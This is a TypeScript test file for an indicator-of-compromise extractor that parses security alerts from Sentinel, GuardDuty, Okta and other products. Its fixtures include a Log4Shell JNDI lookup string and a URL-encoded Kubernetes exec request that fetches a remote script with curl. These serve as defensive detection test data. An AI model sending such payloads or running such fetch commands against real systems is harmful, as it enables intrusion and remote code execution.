import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { maxAlertIocs } from './alert.js';
import { alertIocs } from './alert-iocs.js';

const sample = (name: string) =>
  JSON.parse(readFileSync(new URL(`../../samples/alerts/${name}`, import.meta.url), 'utf8')) as unknown;

describe('alertIocs', () => {
  it('finds the indicators of the shipped samples, not the identifiers', () => {
    const s3 = alertIocs(sample('s3-exfiltration-leaked-role-keys.json')).iocs.map(
      (ioc) => `${ioc.kind} ${ioc.value}`,
    );
    // `s3.amazonaws.com` is its `serviceName`: the API called, not a host the activity involves.
    expect(s3).toEqual(['ipv4 1.2.3.4', 'ipv4 169.254.169.254']);
    const lsass = alertIocs(sample('lsass-dump-mkt01.json')).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);
    expect(lsass).toEqual(
      expect.arrayContaining([
        'sha256 e9196b871670af6307902fc4ca09f7cf3c309ae54b28e10d052ed8741090f928',
        'md5 289684eb9fa3cbd200f4440b6399ff11',
        'ipv4 10.0.5.13',
      ]),
    );
    const log4shell = alertIocs(sample('log4shell-ubuntu5.json')).iocs.map(
      (ioc) => `${ioc.kind} ${ioc.value}`,
    );
    expect(log4shell).toEqual(expect.arrayContaining(['ipv4 192.168.2.5', 'cve CVE-2021-44228']));
  });

  it('reads values inside JSON strings (Sentinel entities) and keeps each indicator once', () => {
    const alert = {
      Entities: '[{"Address":"72.5.72.208","Type":"ip"}]',
      again: '72.5.72.208',
      TenantId: 'e34d562eef124c4e9bc07c6ae357c015',
    };
    expect(alertIocs(alert).iocs).toEqual([{ kind: 'ipv4', value: '72.5.72.208' }]);
  });

  it('takes no product version for an address and no cloud finding id for a hash', () => {
    const alert = {
      userAgent:
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0',
      name: 'organizations/123456789012/sources/5678901234567890123/findings/1c2b3d4e5f60718293a4b5c6d7e8f901',
      resource:
        'arn:aws:guardduty:us-east-1:123456789012:detector/123456789012abcdef0123456789abcdef/finding/16afba5c5c43e07c9e3e5e2e544e95df',
      findingId: '16afba5c5c43e07c9e3e5e2e544e95df',
      source: '203.0.113.9 downloaded e9196b871670af6307902fc4ca09f7cf3c309ae54b28e10d052ed8741090f928',
    };
    expect(alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`)).toEqual([
      'ipv4 203.0.113.9',
      'sha256 e9196b871670af6307902fc4ca09f7cf3c309ae54b28e10d052ed8741090f928',
    ]);
  });

  it('keeps at most maxAlertIocs and counts the rest, without recursion on deep alerts', () => {
    const addresses = Array.from(
      { length: 20_000 },
      (_, i) => `198.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
    );
    const { iocs, omitted } = alertIocs({ addresses: addresses.join(' '), again: addresses.slice(0, 10) });
    expect(iocs).toHaveLength(maxAlertIocs);
    expect(iocs[0]).toEqual({ kind: 'ipv4', value: '198.0.0.0' });
    expect(omitted).toBe(20_000 - maxAlertIocs);
    let deep: unknown = '203.0.113.7';
    for (let depth = 0; depth < 20_000; depth += 1) deep = [deep];
    expect(alertIocs({ deep }).iocs).toEqual([{ kind: 'ipv4', value: '203.0.113.7' }]);
  });

  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);

  it("takes no link to the vendor's console, documentation or advice as a URL", () => {
    const alert = {
      AlertLink: 'https://security.microsoft.com/alerts/da711f85f1?tid=a59fc703',
      externalUri:
        'https://console.cloud.google.com/compute/instancesDetail/zones/us-central1-a/instances/web-01',
      Description:
        'Ransomware launched. Read https://technet.microsoft.com/en-us/sysinternals/bb963902.aspx first. It fetched https://paste.example.net/raw/x1',
      remediation: 'See https://kb.vendor.example/harden for the steps',
    };
    expect(found(alert)).toEqual(['url https://paste.example.net/raw/x1']);
  });

  it('reads JSON held in a string as its fields: a device id is no hash, the assignee no identity', () => {
    const alert = {
      Entities: JSON.stringify([
        {
          Type: 'host',
          MdatpDeviceId: 'e71d36e038408014b8fe351202c5af7d0d1e4740',
          FQDN: 'win11u.contoso.com',
        },
        { Type: 'file', Algorithm: 'SHA1', Value: '2c1b3e8d9f0a7b6c5d4e3f2a1b0c9d8e7f6a5b4c' },
      ]),
      ExtendedProperties: JSON.stringify({ AssignedTo: 'alex@contoso.onmicrosoft.com' }),
    };
    expect(found(alert)).toEqual([
      'domain win11u.contoso.com',
      'sha1 2c1b3e8d9f0a7b6c5d4e3f2a1b0c9d8e7f6a5b4c',
    ]);
  });

  it("takes no message id as an address and no Okta dtHash or JA3 as a file's hash", () => {
    const alert = {
      internetMessageId: '<BY5PR.4f1e@mail.contoso.com>',
      senderFromAddress: 'billing@invoices.example.net',
      debugContext: {
        debugData: { dtHash: '2b1c9f4e6a7d8c3b5e0f1a2d4c6b8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d' },
      },
      tls: { ja3: { hash: 'e7d705a3286e19ea42f587b344ee6865' } },
      sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    };
    expect(found(alert)).toEqual([
      'email billing@invoices.example.net',
      'sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    ]);
  });

  it('takes ldap:// lookups as URLs (not their address again), private and upper-case host names', () => {
    const alert = {
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
      ClientRequestUserAgent: '${jndi:ldap://167.99.36.212:1389/ua}',
      privateDnsName: 'ip-10-0-0-1.ec2.internal',
      note: 'seen from dc01.corp.local too',
      host: 'MKT01.pandalab.com',
      serviceName: 's3.amazonaws.com',
    };
    expect(found(alert)).toEqual([
      'url ldap://167.99.36.212:1389/ua',
      'domain ip-10-0-0-1.ec2.internal',
      'domain dc01.corp.local',
      'domain MKT01.pandalab.com',
    ]);
  });
});

describe('alertIocs: cloud endpoints, digests of what is not a file, vendor portals', () => {
  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);

  it("takes no cloud API endpoint or public registry as a domain, but a bucket's or an instance's host", () => {
    const alert = {
      clientProvidedHostHeader: 'iam.amazonaws.com',
      '@type': 'type.googleapis.com/google.apps.alertcenter.type.MailPhishing',
      note: 'called sts.us-east-1.amazonaws.com, pulled docker.io/library/alpine',
      Host: 'backups-7f3a.s3.amazonaws.com',
      publicDnsName: 'ec2-54-210-17-9.compute-1.amazonaws.com',
    };
    expect(found(alert)).toEqual([
      'domain backups-7f3a.s3.amazonaws.com',
      'domain ec2-54-210-17-9.compute-1.amazonaws.com',
    ]);
  });

  it("takes no digest of a message's body or subject, nor of the event, for a file's hash", () => {
    const alert = {
      md5HashMessageBody: '1b7e3f0c9a2d4e6f8a0b1c2d3e4f5a6b',
      md5HashSubject: 'c0ffee1234567890abcdef0123456789',
      event_hash: '6c2e1a9f0b3d4e5f6a7b8c9d0e1f2a3b',
      attachmentMd5: '8f14e45fceea167a5a36dedd4bea2543',
      // Sysmon's fields in Sentinel's WindowsEvent: the hashes are the process image's.
      EventData: JSON.stringify({ Hashes: 'SHA1=F43D9BB316E30AE1A3494AC5B0624F6BEA1BF054' }),
    };
    expect(found(alert)).toEqual([
      'md5 8f14e45fceea167a5a36dedd4bea2543',
      'sha1 F43D9BB316E30AE1A3494AC5B0624F6BEA1BF054',
    ]);
  });

  it("takes no link to a vendor's threat portal, sandbox or investigation tool", () => {
    const alert = {
      securityInvestigationToolLink: 'https://admin.google.com/ac/sc/investigation?query=9a4c1f52',
      threatUrl: 'https://threatinsight.proofpoint.com/a1b2c3d4/threat/email/2fab740f',
      cloud: 'wildfire.paloaltonetworks.com',
      url: 'https://invoice-portal-pay.com/view/INV-20931',
    };
    expect(found(alert)).toEqual(['url https://invoice-portal-pay.com/view/INV-20931']);
  });
});

describe('alertIocs: names written as URLs, versions, encodings and the log pipeline', () => {
  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);

  it("takes no claim type, service principal name or cloud API resource link as a URL, but a bucket's object", () => {
    const alert = {
      EventData: '["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name","SIMULANDLABS\\\\adfsadmin"]',
      ServicePrincipalNames:
        '00000003-0000-0000-c000-000000000000/ags.windows.net;https://graph.microsoft.com;https://graph.microsoft.us/',
      selfLink:
        'https://www.googleapis.com/compute/v1/projects/acme-prod-3341/zones/us-central1-a/instances/web-frontend-2',
      apiVersion: 'audit.k8s.io/v1',
      annotations: { 'authorization.k8s.io/decision': 'allow' },
      download: 'https://storage.googleapis.com/drop-7f2a/stage2.bin',
    };
    expect(found(alert)).toEqual(['url https://storage.googleapis.com/drop-7f2a/stage2.bin']);
  });

  it('takes no version, certificate digest, import hash, URN, key name or user agent hex for an indicator', () => {
    const alert = {
      SyslogMessage: 'type=AUOMS_EXECVE auoms_version=2.5.2.0 node=UBUNTU5',
      java_version: '1.8.0.251',
      resp_certificate_sha1: 'd9105746ea023ecdc6a47e7b4d026d5308525b8c',
      Hashes: 'MD5=04029E121A0CFA5991749937DD22A1D9,IMPHASH=7C955A0ABC747F57CCC4324480737EF7',
      Urn: 'urn:MailClusterEntity:44fc7590713f49e1c784726c4d83cb11',
      ClusterByValue: 'subject;urn:MailClusterEntity:be46835fea00c99a899a90773360e39b;1',
      serviceAccountKeyName:
        '//iam.googleapis.com/projects/acme-prod-3341/serviceAccounts/ci@acme-prod-3341.iam.gserviceaccount.com/keys/4d1c8a7f0e2b9d6c3a5f8e1b7d0c4a2f9e6b3d8a',
      callerSuppliedUserAgent: 'gcloud/455.0.0 invocation-id/c3d9e2f1a4b54c6d8e7f0a1b2c3d4e5f',
      event: { hash: 'a41f0d7be2c93e5f18d64b07c29a3e61' },
    };
    expect(found(alert)).toEqual(['md5 04029E121A0CFA5991749937DD22A1D9']);
  });

  it("reads list separators, IPv4-mapped and percent-encoded addresses, and skips the pipeline's metadata", () => {
    const alert = {
      QueryResults: 'fe80::798a:6744:8c18:1b47;::ffff:192.168.2.5;',
      ClusterByValue: 'http://ym018491661.wittytree-b6f239d6.northeurope.azurecontainerapps.io/;1',
      requestURI:
        '/api/v1/namespaces/payments/pods/api-7d9/exec?command=curl+http%3A%2F%2F185.243.115.84%2Fk.sh',
      '@system': 'bobs.bigwheel.local',
      observer: { hostname: 'zeek-01.corp.example-lab.com' },
    };
    expect(found(alert)).toEqual([
      'ipv4 192.168.2.5',
      'ipv6 fe80::798a:6744:8c18:1b47',
      'url http://ym018491661.wittytree-b6f239d6.northeurope.azurecontainerapps.io/',
      'ipv4 185.243.115.84',
    ]);
  });
});

describe('alertIocs: text fields, analysts, token parties and prefixed ids', () => {
  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);

  it("takes a file's hash from a log line under `message`; no comment author, token issuer or prefixed id", () => {
    const alert = {
      message: 'CEF:0|Check Point|Anti Bot|Check Point|Log|x|High|fileHash=0b7c6f3e1d9a2c5b8e4f7a0d3c6b9e2f',
      Comments: [{ message: 'ADFS key read', author: { name: 'u101@a.alpineskihouse.co' } }],
      claims: { iss: 'https://sts.windows.net/a839b112-1253-6432-9bf6-94542403f21c/' },
      see_also: ['https://unit42.paloaltonetworks.com/cve-2024-3400/'],
      Process: 'p-6f36fc14a9f4241ba80328cee5b87ea2290935d7',
    };
    expect(found(alert)).toEqual(['md5 0b7c6f3e1d9a2c5b8e4f7a0d3c6b9e2f']);
  });
});

describe('alertIocs: whole values, paths, principals and key=value text', () => {
  const found = (alert: unknown) => alertIocs(alert).iocs.map((ioc) => `${ioc.kind} ${ioc.value}`);

  it("takes ::1, a UNC path's server, SYSVOL's domain folder, a Kerberos realm and a host field in any case", () => {
    const alert = {
      IpAddress: '::1',
      path: '\\\\FS01.corp.local\\IPC$',
      name: 'branch.local\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\gpt.ini',
      client: 'WKS7$/AD.LOCAL',
      service: 'krbtgt/EXAMPLE-BANK.COM',
      FQDN: 'FIN-Wks07.ad.example-bank.com',
      Class: 'Model.Id',
    };
    expect(found(alert)).toEqual([
      'ipv6 ::1',
      'domain FS01.corp.local',
      'domain branch.local',
      'domain AD.LOCAL',
      'domain EXAMPLE-BANK.COM',
      'domain FIN-Wks07.ad.example-bank.com',
    ]);
  });

  it("takes no hex assigned to an identifier's key in key=value text, nor who last changed the alert record", () => {
    const alert = {
      message: 'type="utm" fctuid=4c9e0d7f2b6a41e88f3d5a7c1b9e2f61 filehash=0b7c6f3e1d9a2c5b8e4f7a0d3c6b9e2f',
      ModifiedBy: 'analyst7@soc.example-bank.com',
      target: { ModifiedBy: 'attacker@example-bank.com' },
    };
    expect(found(alert)).toEqual(['md5 0b7c6f3e1d9a2c5b8e4f7a0d3c6b9e2f', 'email attacker@example-bank.com']);
  });
});
